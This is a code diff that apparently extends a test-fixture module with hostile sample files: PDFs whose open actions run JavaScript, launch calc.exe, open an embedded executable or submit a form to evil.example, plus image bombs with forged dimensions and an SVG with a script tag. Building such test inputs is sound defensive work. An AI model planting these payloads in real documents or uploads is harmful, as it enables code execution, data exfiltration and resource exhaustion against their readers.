@@ -148,6 +148,20 @@ def pdf():
     return b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
 
 
+def hiding(action):
+    """A paper that does something when it is opened, where its reader lets it."""
+    catalogue = b"<< /Type /Catalog /OpenAction " + action + b" >>"
+    return b"%PDF-1.7\n1 0 obj\n" + catalogue + b"\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
+
+
+PAPERS = {
+    "a script": hiding(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
+    "a program to launch": hiding(b"<< /S /Launch /F (calc.exe) >>"),
+    "a file within": hiding(b"<< /S /GoToE /T << /R /C /N (in.exe) >> >> /Names << /EmbeddedFiles << >> >>"),
+    "a page to send to": hiding(b"<< /S /SubmitForm /F (https://evil.example) >>"),
+}
+
+
 def archive():
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w") as made:
@@ -168,6 +182,36 @@ def bomb(side=60_000):
         + chunk(b"IDAT", rows)
         + chunk(b"IEND", b"")
     )
+
+
+def jpeg_bomb():
+    """Says that it has 4.3 billion pixels."""
+    made = bytearray(photo("JPEG", image=picture(320, 240)))
+    at = made.index(b"\xff\xc0")
+    made[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
+    return bytes(made)
+
+
+def webp_bomb(side=16_384):
+    """A canvas of 268 million pixels around a picture of few."""
+    inside = photo("WEBP", image=picture(320, 240), lossless=True)[12:]
+    canvas = b"VP8X" + struct.pack("<I", 10) + bytes(4) + (side - 1).to_bytes(3, "little") * 2
+    return b"RIFF" + struct.pack("<I", 4 + len(canvas + inside)) + b"WEBP" + canvas + inside
+
+
+def heic_that_says(side, *, of=None):
+    """A HEIC whose container tells another size than its picture has."""
+    made = bytearray(photo("HEIF", image=of or picture(320, 240)))
+    at = -1
+    while (at := made.find(b"ispe", at + 1)) >= 0:
+        made[at + 8 : at + 16] = struct.pack(">II", side, side)
+    return bytes(made)
+
+
+def commented(comment):
+    """A JPEG with a comment, which is the first thing in it."""
+    made = jpeg()
+    return made[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + made[2:]
 
 
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
